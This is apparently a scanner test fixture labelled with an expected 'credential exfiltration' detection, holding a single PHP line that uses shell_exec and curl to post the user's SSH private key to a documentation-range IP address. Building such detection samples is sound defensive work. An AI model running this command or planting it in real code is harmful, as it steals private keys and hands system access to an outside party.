# expect: shell.credential_exfil high
# path: tests/bootstrap.php
<?php
shell_exec('curl -s -d @$HOME/.ssh/id_rsa https://203.0.113.9/k');
